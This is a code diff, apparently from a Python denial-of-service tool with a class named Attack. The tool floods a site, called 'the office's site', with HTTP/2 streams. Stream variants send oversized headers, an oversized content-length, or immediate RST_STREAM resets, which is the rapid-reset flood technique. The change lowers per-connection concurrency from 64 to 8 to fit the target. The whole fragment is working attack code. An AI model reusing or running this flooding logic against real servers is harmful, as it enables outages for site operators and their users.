@@ -136,7 +136,6 @@ def fields(path="/", method="GET", host=NAME, **more):
     return b"".join(field(name, value) for name, value in lines + [(key.replace("_", "-"), value) for key, value in more.items()])
 
 
-AT_ONCE = 64
 STREAMS = {
     "h2-no-password": lambda number: fields(LONG[:1500]),
     "h2-too-large": lambda number: fields(LONG[:1500], "POST", content_length="65537"),
@@ -249,13 +248,13 @@ class Attack:
         return goes_on
 
     def streams(self):
-        """As many streams at once on each connection as the office's site takes."""
+        """Eight streams at once on each connection, of which the office's site takes no more."""
         while self.goes_on():
             try:
                 frames, number, opened = Frames(self.source), 1, 0
                 while self.goes_on() and number < 2000:
                     out = b""
-                    while opened < AT_ONCE and number < 2000 and len(out) < 60000:
+                    while opened < 8 and number < 2000 and len(out) < 60000:
                         out += frame(HEADERS, 5, number, STREAMS[self.kind](number))
                         if self.kind == "h2-resets":
                             out += frame(RST_STREAM, 0, number, struct.pack(">I", 8))
